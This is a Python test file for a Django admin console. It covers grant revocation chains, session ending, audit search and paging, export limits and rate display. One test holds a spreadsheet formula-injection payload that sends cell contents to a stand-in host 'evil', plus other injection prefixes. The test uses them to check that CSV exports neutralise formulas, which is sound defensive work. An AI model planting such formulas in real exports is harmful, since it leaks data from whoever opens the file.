"""Grants, sessions, audit and rates in the console. Cost: about half a second each."""

import csv
import io
import json
import threading
from pathlib import Path
from typing import Any

import pytest
from django.test import Client

from apps.http.pages import exporting
from apps.http.pages.limits import MAX_EXPORTS
from apps.keys import rates as keyed
from apps.keys.audit.models import AuditEvent
from apps.keys.audit.services import record
from apps.keys.clock import utc_now
from apps.keys.grants import services as grants
from apps.keys.grants.form import GrantSubject
from apps.keys.models import ApiKey, HumanSession, IssuedGrant, Operator
from apps.keys.principal import operator as principal
from apps.keys.sessions.services import open_session
from apps.keys.verify import principal_for
from apps.workloads.clock import now_ms
from tests.operations.test_every_page import text_of

FORMULA = '=HYPERLINK("http://evil/?"&A1,"click")'


@pytest.fixture
def chain(make_key: Any, namespace: str) -> tuple[IssuedGrant, IssuedGrant]:
    """A grant and one delegated from it."""
    key = make_key().key
    now = now_ms()
    signed = grants.issue_for(principal_for(key), tenant_id=namespace, application_id="app", now_ms=now)
    child = grants.delegate(
        signed.grant.id,
        principal_for(key),
        tenant_id=namespace,
        subject=GrantSubject(kind="agent", id="helper"),
        now_ms=now,
    )
    return IssuedGrant.objects.get(grant_id=signed.grant.id), child


@pytest.fixture(autouse=True)
def _fresh_places(monkeypatch: pytest.MonkeyPatch) -> None:
    """Other tests leave exports unclosed, as no server does."""
    monkeypatch.setattr(exporting, "places", threading.BoundedSemaphore(MAX_EXPORTS))


def page_of(row: IssuedGrant) -> str:
    return f"/admin/keys/issuedgrant/{row.pk}/change/"


@pytest.mark.django_db(transaction=True)
def test_a_grant_shows_its_chain_both_ways_and_is_revoked_with_all_below_it(
    console: Client, chain: tuple[IssuedGrant, IssuedGrant]
) -> None:
    parent, child = chain
    above, below = console.get(page_of(parent)).content.decode(), console.get(page_of(child)).content.decode()
    assert child.grant_id in above and "helper" in above and parent.grant_id in below and "Revoke it" in below
    address = f"/admin/keys/issuedgrant/{parent.pk}/revoke/"
    done = console.post(address, {"reason": "left the team"}, follow=True)
    assert "is revoked" in done.content.decode()
    again = console.post(address)
    assert again.status_code == 409 and "revoked already" in again.content.decode()
    assert "holds for nothing any more" in console.get(page_of(child)).content.decode()
    (event,) = AuditEvent.objects.filter(action="grant.revoked")
    assert (event.subject, event.target, event.reason) == ("human:admin", parent.grant_id, "left the team")


@pytest.mark.django_db(transaction=True)
def test_a_session_is_ended_once_and_by_nobody_else(console: Client, namespace: str) -> None:
    vera = Operator.objects.create_user("vera", password="correct horse battery", is_staff=True)
    session = open_session(vera, now_ms=now_ms()).session
    listed = console.get("/admin/keys/humansession/").content.decode()
    assert session.pk in listed and "vera" in listed
    address = f"/admin/keys/humansession/{session.pk}/end/"
    stranger = Client()
    stranger.force_login(Operator.objects.create_user("n", password="correct horse battery", is_staff=True))
    assert stranger.post(address).status_code == 403
    assert "opens nothing" in console.post(address, follow=True).content.decode()
    assert console.post(address).status_code == 409
    assert HumanSession.objects.get(pk=session.pk).ended_at_ms is not None
    assert AuditEvent.objects.filter(action="session.ended", subject="human:admin").count() == 1


def test_the_audit_is_searched_by_every_filter_and_paged(console: Client) -> None:
    for number in range(60):
        record(principal("ops"), "a.done", target=f"t{number}", namespace="test", at_ms=1_800_000_000_000 + number)
    record(principal("eve"), "b.done", target="other", code="FORBIDDEN", outcome="denied", reason="no")
    base = "/admin/keys/auditevent/"
    first = console.get(base, {"action": "a.done"})
    assert [event.target for event in first.context["events"]] == [f"t{number}" for number in range(59, 9, -1)]
    second = console.get(base, {"action": "a.done", "below": first.context["below"]})
    assert [event.target for event in second.context["events"]] == [f"t{number}" for number in range(9, -1, -1)]
    for asked in ({"subject": "human:eve"}, {"target": "other"}, {"code": "FORBIDDEN"}, {"outcome": "denied"}):
        assert [event.action for event in console.get(base, asked).context["events"]] == ["b.done"], asked
    within = console.get(base, {"within": "test", "after": "2027-01-15 08:00", "before": "2027-01-15 08:00:00"})
    assert [event.target for event in within.context["events"]] == ["t0"]
    wrong = console.get(base, {"after": "yesterday"})
    assert wrong.status_code == 422 and "errorlist" in wrong.content.decode()


def test_exports_are_complete_exact_and_no_cell_is_a_formula(console: Client) -> None:
    hostile = [FORMULA, "+1", "-1", "@SUM(A1)", "  =1", "|calc", 'a",b\n=2', "plain é"]
    for number, reason in enumerate(hostile):
        record(principal("ops"), "a.done", target=str(number), reason=reason)
    kept = [event.reason for event in AuditEvent.objects.filter(action="a.done").order_by("pk")]
    answer = console.get("/admin/keys/auditevent/export/", {"form": "csv", "action": "a.done"})
    assert answer["Content-Disposition"] == 'attachment; filename="audit.csv"'
    rows = list(csv.DictReader(io.StringIO(text_of(answer))))
    assert len(rows) == len(hostile)
    for row, reason in zip(rows, kept, strict=True):
        assert row["reason"] in (reason, f"'{reason}")
        assert all(not value.lstrip(" ").startswith(("=", "+", "-", "@", "|", "\t")) for value in row.values()), row
    lines = text_of(console.get("/admin/keys/auditevent/export/", {"form": "ndjson", "action": "a.done"}))
    assert [json.loads(line)["reason"] for line in lines.splitlines()] == kept
    assert AuditEvent.objects.filter(action="audit.exported").count() == 2


def test_exports_of_the_console_are_bounded_with_those_of_the_api(console: Client) -> None:
    held = [console.get("/admin/keys/auditevent/export/") for _ in range(MAX_EXPORTS)]
    refused = console.get("/admin/keys/auditevent/export/")
    assert refused.status_code == 503 and "Other exports are under way" in refused.content.decode()
    for answer in held:
        for part in answer.streaming_content:
            assert part
        answer._resource_closers.clear()


def test_rates_name_the_keys_nearest_to_a_refusal(
    console: Client, make_key: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, settings: Any
) -> None:
    assert "No rate is set" in console.get("/admin/rates/").content.decode()
    settings.RATE_LIMIT = 10
    now = [1_000.0]
    shared = keyed.Rates(tmp_path / "rates", 10, now=lambda: now[0])
    monkeypatch.setattr(keyed, "shared", lambda: shared)
    assert "Nobody is near a limit" in console.get("/admin/rates/").content.decode()
    busy, quiet = make_key(name="eager-one").key, make_key(name="idle-one").key
    ApiKey.objects.filter(pk__in=[busy.pk, quiet.pk]).update(last_used_at=utc_now())
    for _ in range(90):
        shared.take(busy.pk)
    shared.take(quiet.pk)
    shared.take("unknown-yet")
    page = console.get("/admin/rates/").content.decode()
    assert "90 of 100" in page and page.index("eager-one") < page.index("idle-one") and "first used within" in page
    now[0] += 11
    assert "Nobody is near a limit" in console.get("/admin/rates/").content.decode()
